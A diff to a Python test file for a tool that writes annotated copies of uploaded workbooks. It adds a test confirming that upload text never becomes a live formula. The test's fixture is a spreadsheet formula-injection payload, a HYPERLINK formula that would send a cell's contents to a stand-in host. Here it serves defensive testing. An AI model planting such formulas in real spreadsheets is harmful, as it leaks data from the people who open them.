@@ -354,3 +354,21 @@ def test_problems_are_ordered_by_sheet_then_row():
 def test_annotated_file_name():
     assert workbooks.annotated_file_name("越城区 2026.xlsx") == "越城区 2026-校验结果.xlsx"
     assert workbooks.annotated_file_name("人员.csv") == "人员-校验结果.xlsx"
+
+
+def test_checked_copy_never_turns_upload_text_into_a_formula(tmp_path):
+    """Sheet headers and the 错误清单's sheet/column cells come from the upload: text, never formulas."""
+    formula = '=HYPERLINK("http://example.invalid/?d="&A2)'
+    source = _csv_zip(
+        tmp_path / "上报.zip",
+        {"机构.csv": f"机构代码,机构名称,{formula}\nA,甲,x\n"},
+    )
+    errors = [{"sheet": "机构", "row": 0, "column": formula, "message": "未知的列"}]
+    target = tmp_path / "checked.xlsx"
+    workbooks.annotated_workbook(source=source, target=target, errors=errors)
+    book = openpyxl.load_workbook(target)
+    header = book["机构"]["C1"]
+    assert (header.value, header.data_type) == (formula, "s")
+    cells = [c for row in book[workbooks.PROBLEM_SHEET].iter_rows() for c in row]
+    assert [c.data_type for c in cells if c.value == formula] == ["s"]
+    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
